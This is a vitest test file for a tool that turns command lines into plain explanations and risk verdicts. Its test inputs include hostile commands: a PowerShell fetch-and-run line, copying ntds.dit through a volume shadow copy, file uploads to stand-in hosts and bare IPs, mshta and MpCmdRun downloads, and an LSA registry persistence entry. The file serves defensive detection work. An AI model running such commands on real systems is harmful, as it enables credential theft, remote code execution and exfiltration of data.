import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { explain } from "../pipeline/explain.ts";

const text = (commandLine: string): string =>
  explain({ commandLine, platform: "windows" }, builtinCatalog()).explanation.verdict.text;

describe("a sentence", () => {
  it.each([
    ["esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\k\\n.dat", "C:\\Windows\\NTDS\\ntds.dit"],
    ["certutil -encode C:\\k\\secret.docx C:\\k\\out.txt", "C:\\k\\secret.docx"],
    ['powershell -c "irm h.example/x.ps1 | iex"', "the script h.example/x.ps1"],
    ["diskshadow /s C:\\kelp\\tide.dsh /l C:\\kelp\\tide.log", "start programs: the script C:\\kelp\\tide.dsh"],
  ])("names what the act is about: %s", (commandLine, about) => {
    expect(text(commandLine).split(". ")[0]).toContain(about);
  });

  it("calls a script that its extension opens no program", () => {
    expect(text("cmd /c start C:\\Users\\Public\\x.ps1")).toContain("the script C:\\Users\\Public\\x.ps1");
    expect(text("cmd /c start C:\\Users\\Public\\x.ps1")).not.toContain("the program ");
  });

  it.each([
    ["aws s3 cp s3://kelp/tide.sh /srv/kelp/tide.sh", "the script s3://kelp/tide.sh"],
    ["aws s3 cp s3://kelp/survey.las /srv/kelp/survey.las", "AWS: s3://kelp/survey.las"],
    ["aws s3 cp s3://kelp/tide.yaml /srv/kelp/tide.yaml", "the configuration s3://kelp/tide.yaml"],
  ])("calls what a store keeps what its name says: %s", (commandLine, about) => {
    expect(explain({ commandLine, platform: "linux" }, builtinCatalog()).explanation.verdict.text).toContain(about);
  });

  it("does not call a module of the kernel started again and again", () => {
    const load = { commandLine: "insmod /tmp/kelp.ko", platform: "linux" } as const;
    expect(explain(load, builtinCatalog()).explanation.verdict).toMatchObject({ level: "critical" });
    expect(explain(load, builtinCatalog()).explanation.verdict.text).not.toContain("again");
  });

  it("calls what servers run in, and much else, no server", () => {
    const by = (parent: string) =>
      explain({ commandLine: "cmd /c C:\\Temp\\x.bat", platform: "windows", parent }, builtinCatalog()).explanation
        .verdict.text;
    expect(by("C:\\Windows\\System32\\inetsrv\\w3wp.exe")).toContain("A network service, w3wp.exe, started it.");
    expect(by("C:\\Program Files\\nodejs\\node.exe")).toContain("node.exe, in which network services run, started it.");
  });

  it("says that a script comes from the web where its address has no scheme", () => {
    expect(text('powershell -c "irm h.example/x.ps1 | iex"')).toMatch(/from the web/);
  });

  it("takes the quote that closes the line of cmd.exe for no trick", () => {
    expect(text('cmd.exe /d /s /c "powershell -c "irm h.example/x.ps1|iex""')).not.toContain("quotes inside words");
  });

  it.each([
    ["cmd /c start C:\\Users\\Public\\x.ps1", /^cmd\.exe starts a program or opens a file: the script /],
    ["cmd /c copy \\\\198.51.100.7\\s\\a.exe C:\\k\\a.exe", /^cmd\.exe copies or moves a file: the program /],
  ])("says that the shell acts whose word it is: %s", (commandLine, says) => {
    expect(text(commandLine)).toMatch(says);
  });

  it.each([
    [
      "curl.exe -d a=b https://h.example/in",
      "curl.exe sends text to another machine: the address https://h.example/in",
    ],
    [
      "curl.exe -X POST https://h.example/in",
      "curl.exe sends text to another machine: the address https://h.example/in",
    ],
    [
      "curl.exe -F k=v https://h.example/in",
      "curl.exe sends text to another machine: the address https://h.example/in",
    ],
    [
      'powershell -c "iwr https://h.example/in -Method Post -Body abc"',
      "powershell.exe sends data to a web server: the address https://h.example/in",
    ],
    [
      'powershell -c "irm https://h.example/in -Method Put -InFile C:\\k\\a.zip"',
      "powershell.exe sends data to a web server: the file C:\\k\\a.zip",
    ],
  ])("tells a request that brings data as one that sends: %s", (commandLine, says) => {
    expect(text(commandLine)).toContain(says);
    expect(text(commandLine)).toContain("It sends to https://h.example/in on the web.");
    expect(text(commandLine)).not.toMatch(/download|takes/);
  });

  it("still tells code that fetches as well as sends as a download", () => {
    const both = "iwr https://h.example/in -Method Post -Body a; iwr https://h.example/k.txt -OutFile C:\\k\\k.txt";
    expect(text(`powershell -c "${both}"`)).toMatch(/^powershell\.exe downloads files/);
  });

  it.each([
    ["nslookup -q=txt kit.example.net", /: the address kit\.example\.net\. It takes what kit\.example\.net answers/],
    [
      "robocopy C:\\Users\\Public \\\\198.51.100.7\\s",
      /copies a folder: C:\\Users\\Public, to \\\\198\.51\.100\.7\\s\./,
    ],
    ["certutil -syncwithWU \\\\192.0.2.8\\x", /the password hash: the share \\\\192\.0\.2\.8\\x\./],
    [
      "msiexec /i C:\\k\\a.msi TRANSFORMS=https://h.example/a.mst",
      /: the transform https:\S+\. It takes this transform from/,
    ],
    ["wab.exe", /names for contacts: the registry entry HKLM/],
    ["hh.exe C:\\Users\\Public\\x.chm", /It opens this file from a folder/],
    [
      "regsvr32 C:\\Users\\Public\\x.dll",
      /calls DllRegisterServer of a library: C:\\Users\\Public\\x\.dll\. It loads this library from a folder/,
    ],
  ])("calls what it names by what it is: %s", (commandLine, says) => {
    expect(text(commandLine)).toMatch(says);
  });

  it("names of several payloads the one that anybody can have put there", () => {
    const key = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa";
    const line = `reg add ${key} /v "Authentication Packages" /t REG_MULTI_SZ /d "msv1_0\\0C:\\Users\\Public\\k.dll" /f`;
    expect(text(line).split(". ")[0]).toContain("the library C:\\Users\\Public\\k.dll");
  });

  it.each([
    ["regsvr32 C:\\Users\\Public\\x.dll", "not normally kept, and to which users can write."],
    ["regsvr32 /s ..\\x.dll", "this library by a path from the working directory"],
  ])("says once where a payload lies: %s", (commandLine, says) => {
    expect(text(commandLine)).toContain(says);
    expect(text(commandLine)).not.toContain("from a folder that users can write to");
    expect(text(commandLine)).not.toContain("without a folder");
  });

  it.each([
    [
      "mshta http://198.51.100.7/a.hta",
      /machine: the script http:\S+\. It takes this script from the web\. 198\.51\.100\.7 is a bare IP address outside the site\./,
    ],
    [
      "curl -T C:\\k\\a.zip http://198.51.100.7/in",
      /to another machine: C:\\k\\a\.zip, to http:\/\/198\.51\.100\.7\/in\./,
    ],
    [
      "rundll32 printui.dll,PrintUIEntry /in /n \\\\198.51.100.7\\desk",
      /It turns to the network share \\\\198\.51\.100\.7\\desk\./,
    ],
    [
      "rundll32 kiwi.dll,Go",
      /It names this library without a folder, so the search path and the working directory decide/,
    ],
    [
      "rundll32 printui.dll,PrintUIEntry /il",
      /printui\.dll\. .* as people do who type it: Windows has it in its own\./,
    ],
    ["control ncpa.cpl", /ncpa\.cpl\. .* as people do who type it: Windows has it in its own\./],
    ["D:\\kelp\\rundll32.exe printui.dll,PrintUIEntry /il", /so the search path and the working directory decide/],
    ["regsvr32 C:\\Temp\\kiwi.dll", /kiwi\.dll\. It loads this library, which lies loose in a temporary folder\./],
    [
      "extexport C:\\Windows\\Temp\\pkg a b",
      /given: C:\\Windows\\Temp\\pkg\. It loads what is in this folder, which lies loose in a temporary folder\./,
    ],
    [
      "chrome --load-extension=C:\\Users\\Public\\kiwi",
      /It runs what is in this folder, in which programs are not normally kept, and to which users can write\./,
    ],
    ["chrome --load-extension=D:\\kiwi", /It runs what is in this folder, to which users can write\./],
    [
      "MpCmdRun -DownloadFile -url http://198.51.100.7/a.exe -path C:\\Users\\Public\\k.exe",
      /a file: the program http:\/\/198\.51\.100\.7\/a\.exe\. It takes this program from the web\./,
    ],
    [
      "printbrm -b -d \\\\198.51.100.7\\pub\\kiwi -f C:\\k\\a.zip",
      /a folder into a file: the folder \\\\198\.51\.100\.7\\pub\\kiwi\. It takes what is in this folder from a network share\./,
    ],
    ["wscript kiwi.vbs", /It names this script without a folder, so the working directory decides what runs\./],
  ])("says what it names in full once: %s", (commandLine, says) => {
    expect(text(commandLine)).toMatch(says);
  });

  it("says in each fact what no other says, where they are told one by one", () => {
    const { judgement } = explain(
      { commandLine: "regsvr32 C:\\Users\\Public\\x.dll", platform: "windows" },
      builtinCatalog(),
    );
    const told = judgement?.reasons.map((one) => one.text).filter((one) => /users can write/.test(one));
    expect(told).toEqual(["It loads the library C:\\Users\\Public\\x.dll from a folder that users can write to."]);
  });

  it("tells a help file that is unpacked as read, and runs nothing", () => {
    const { explanation } = explain(
      { commandLine: "hh.exe -decompile C:\\Temp\\out C:\\Temp\\k.chm", platform: "windows" },
      builtinCatalog(),
    );
    expect(explanation.verdict.text).toMatch(/a compiled help file: C:\\Temp\\k\.chm\.$/);
    expect(explanation.invocations[0]?.behaviours[0]?.runs).toEqual([]);
  });
});
